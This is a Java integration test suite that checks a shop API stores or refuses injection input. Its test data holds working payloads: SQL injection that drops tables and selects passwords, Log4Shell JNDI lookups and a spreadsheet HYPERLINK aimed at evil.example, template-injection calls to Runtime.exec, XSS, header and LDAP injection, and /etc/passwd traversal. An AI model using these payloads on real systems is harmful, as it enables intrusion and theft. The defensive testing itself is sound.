package dev.ashlar.systemtests.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.ashlar.systemtests.Shopper;
import java.io.IOException;
import java.net.URLEncoder;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/** Input with a meaning for SQL, shells, templates, logs, mails or browsers is stored as text or refused. */
@Hostile
class InjectionIT {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private static Shopper renamed;

    @BeforeAll
    static void register() {
        renamed = Shopper.registered();
    }

    @ParameterizedTest
    @ValueSource(strings = {"' OR '1'='1", "'; DROP TABLE products; --", "x') UNION SELECT password FROM users --",
            "a' & !b | (c <-> d):*", "'; SELECT pg_sleep(5); --", "%' ESCAPE '%", "\\", "$$;$$", "{{7*7}}", "\"\"\"",
            "<script>alert(1)</script>", "----------------------------------------", "\" - ! -\" or or -- \"a"})
    void searchesForAnyText(String words) {
        var found = Attack.get("/api/v1/products?q=" + encoded(words)).named(words).expectStatus(200);

        assertThat(found.body().path("items").isArray()).isTrue();
        assertThat(found.raw().headers().firstValue("Content-Type")).hasValue("application/json");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/products?sort=name;DROP%20TABLE%20products", "/api/v1/products?sort=(SELECT%201)",
            "/api/v1/products?limit=1%20OR%201=1", "/api/v1/products?cursor='%20OR%201=1--",
            "/api/v1/products?min_price=1)%20OR%20(1=1", "/api/v1/products?q=%00", "/api/v1/products?q=a%0d%0aX:%20y",
            "/api/v1/products/'%20OR%20'1'='1", "/api/v1/products?category=%00"})
    void refusesInjectionInParameters(String path) {
        Attack.get(path).expectRefusal(400);
    }

    @ParameterizedTest
    @ValueSource(strings = {"' OR '1'='1' --", "admin@ashlar.local' --", "a@b.example\r\nBcc: everybody@example.org",
            "a@b.example%0aBcc:x@example.org", "a@b.example,admin@ashlar.local", "\"<script>\"@example.org",
            "admin@ashlar.local\u0000", "аdmin@ashlar.local", "*)(uid=*))(|(uid=*"})
    void refusesAnInvalidMailAddress(String email) {
        var body = JSON.createObjectNode().put("email", email).put("password", "a guess at the password");
        Attack.post("/api/v1/sessions", body.toString()).named(email).expectRefusal(400);
    }

    @Test
    void refusesAnAddressThatDiffersInCaseOnly(Fixture fixture) {
        Attack.post("/api/v1/users", """
                {"email":"%s","name":"Ada","password":"three words make 15"}"""
                .formatted(fixture.victim().email().toUpperCase())).expectRefusal(409);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{\"$ne\":\"\"}", "{\"$gt\":\"\"}", "[\"admin@ashlar.local\"]", "true", "{}"})
    void refusesAnOperatorAsAValue(String operator) {
        Attack.post("/api/v1/sessions", "{\"email\":%s,\"password\":%s}".formatted(operator, operator))
                .expectRefusal(400);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Robert'); DROP TABLE users;--", "${jndi:ldap://evil.example/a}", "#{7*7}", "[[${7*7}]]",
            "<img src=x onerror=alert(1)>", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "=HYPERLINK(\"http://evil.example\")", "%n%n%s%x", "../../../etc/passwd"})
    void storesANameUnchanged(String name) {
        var body = JSON.createObjectNode().put("name", name).toString();

        var changed = Attack.of("PATCH", "/api/v1/users/me").json(body).as(renamed).named(name).expectStatus(200);

        assertThat(changed.text("name")).isEqualTo(name);
        assertThat(changed.raw().headers().firstValue("Content-Type")).hasValue("application/json");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\\u0000b", "a\\r\\nSubject: b", "\\ud800", "\\u2028", "\\u001b[31m", " ", ""})
    void refusesControlCharactersInAName(String escaped, Fixture fixture) {
        Attack.of("PATCH", "/api/v1/users/me").json("{\"name\":\"" + escaped + "\"}").as(fixture.attacker())
                .named(escaped).expectRefusal(400);
    }

    @ParameterizedTest
    @MethodSource
    void doesNotEvaluateLoggedHeaders(String header, Fixture fixture) throws IOException {
        try (var listener = new CallbackListener()) {
            var lookup = "${jndi:ldap://" + listener.authority() + "/a}";
            Attack.get("/api/v1/users/me").as(fixture.attacker()).with(header, lookup).expectStatus(200);
            Attack.get("/api/v1/products").at(EntryPoint.INVENTORY).with(header, lookup).expectStatus(200);
            assertThat(listener.wasCalled()).isFalse();
        }
    }

    static Stream<String> doesNotEvaluateLoggedHeaders() {
        return Stream.of("User-Agent", "X-Request-Id", "Referer", "traceparent");
    }

    private static String encoded(String words) {
        return URLEncoder.encode(words, UTF_8);
    }
}
